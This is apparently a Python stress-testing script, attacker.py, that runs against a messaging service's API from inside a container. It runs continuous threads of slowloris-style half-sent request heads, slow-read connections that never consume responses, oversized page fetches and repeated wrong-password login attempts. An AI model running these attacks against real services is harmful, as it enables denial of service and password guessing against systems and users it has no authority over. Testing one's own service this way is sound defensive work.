"""Hostile use from inside a container: `python attacker.py URL
PASSWORD`, with the standard library alone.

Two users who are allowed in and a stranger who is not, as many at once
and as often as stands below. They ask for the largest pages, read and
do not take what they asked for, guess passwords, and begin requests
that they never finish. How each was answered is printed as JSON every
ten seconds.
"""

import contextlib
import http.client
import json
import socket
import sys
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable
from urllib.parse import urlsplit

NAMES = ("mallory", "trudy")
READERS = 8
"""Who read one page after the other, half a second apart: 16 a
second.
"""
BIG_READERS = 2
"""Who ask for the largest page there is, once in two seconds."""
IDLERS = 20
"""Who ask for it and take nothing for five seconds."""
GUESSERS = 4
"""Who try a wrong password three times a second each."""
HALF_HEADS = 100
"""Unfinished heads of 12 KB that are held at a time, less than half of
what one source may have.
"""

counts: Counter[str] = Counter()


class Attack:
    """One address and one password, and everything that can be done
    with them.
    """

    def __init__(self, url: str, password: str) -> None:
        parts = urlsplit(url)
        self.host, self.port, self.password = str(parts.hostname), int(parts.port or 80), password
        self.token = ""
        self.conversation = ""

    def call(self, method: str, path: str, body: object = None) -> tuple[int, bytes]:
        peer = http.client.HTTPConnection(self.host, self.port, timeout=15)
        try:
            headers = {"Authorization": f"Bearer {self.token}"} if self.token else {}
            data = None if body is None else json.dumps(body)
            peer.request(
                method,
                path,
                data,
                headers | ({"Content-Type": "application/json"} if data else {}),
            )
            answer = peer.getresponse()
            return answer.status, answer.read()
        finally:
            peer.close()

    def prepare(self) -> None:
        """Log in, and make a page of messages that is as large as JSON
        can be made.
        """
        tokens = {}
        for name in NAMES:
            status, answer = self.call(
                "POST", "/auth/token", {"username": name, "password": self.password}
            )
            if status != 200:
                raise OSError(f"login: {status}")
            tokens[name] = json.loads(answer)
        self.token = tokens[NAMES[0]]["access_token"]
        other = tokens[NAMES[1]]["user_id"]
        status, answer = self.call("POST", "/v1/conversations", {"participant_ids": [other]})
        if status >= 300:
            raise OSError(f"conversation: {status}")
        self.conversation = json.loads(answer)["conversation_id"]
        for number in range(100):
            message = str(uuid.uuid5(uuid.NAMESPACE_URL, f"big {number}"))
            body = {
                "conversation_id": self.conversation,
                "content": "\x01" * 10_240,
                "message_id": message,
            }
            status, _ = self.call("POST", "/v1/messages", body)
            if status != 202:
                raise OSError(f"message: {status}")

    @property
    def page(self) -> str:
        return f"/v1/conversations/{self.conversation}/messages?limit=100"

    def read(self) -> str:
        status, _ = self.call("GET", self.page.replace("100", "1"))
        time.sleep(0.5)
        return f"read {status}"

    def read_big(self) -> str:
        status, _ = self.call("GET", self.page)
        time.sleep(2)
        return f"big page {status}"

    def ask_and_take_nothing(self) -> str:
        line = f"GET {self.page} HTTP/1.1\r\n"
        head = f"{line}Host: localhost\r\nAuthorization: Bearer {self.token}\r\n\r\n"
        with socket.socket() as peer:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            peer.settimeout(15)
            peer.connect((self.host, self.port))
            peer.sendall(head.encode() * 4)
            time.sleep(5)
        return "asked and took nothing"

    def guess(self) -> str:
        body = {"username": NAMES[1], "password": "wrong password"}
        status, _ = self.call("POST", "/auth/token", body)
        time.sleep(0.33)
        return f"guess {status}"

    def half_head(self) -> str:
        head = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X: %s\r\n" % (b"y" * 600) * 32
        with socket.create_connection((self.host, self.port), 15) as peer:
            peer.sendall(head[:12_000])
            answer = peer.recv(100).split(b" ")
        time.sleep(0.5)
        return f"half a head {answer[1].decode() if len(answer) > 1 else 'closed'}"


def again_and_again(name: str, attack: Callable[[], str]) -> None:
    """Go on for ever: what is away now is attacked again a second
    later.
    """
    while True:
        try:
            what = attack()
        except (OSError, http.client.HTTPException, ValueError):
            what = f"{name}: no answer"
            time.sleep(1)
        counts[what] += 1


def renew(attack: Attack) -> str:
    attack.prepare()
    time.sleep(1200)
    return "prepared"


def main() -> None:
    attack = Attack(sys.argv[1], sys.argv[2])
    while not attack.conversation or not attack.token:
        with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
            attack.prepare()
        time.sleep(1)
    work = (
        [("prepare", lambda: renew(attack))]
        + [("read", attack.read)] * READERS
        + [("big page", attack.read_big)] * BIG_READERS
        + [("idle", attack.ask_and_take_nothing)] * IDLERS
        + [("guess", attack.guess)] * GUESSERS
        + [("half a head", attack.half_head)] * HALF_HEADS
    )
    for name, step in work:
        threading.Thread(target=again_and_again, args=(name, step), daemon=True).start()
    while True:
        time.sleep(10)
        print(json.dumps(dict(sorted(counts.items()))), flush=True)


if __name__ == "__main__":
    main()
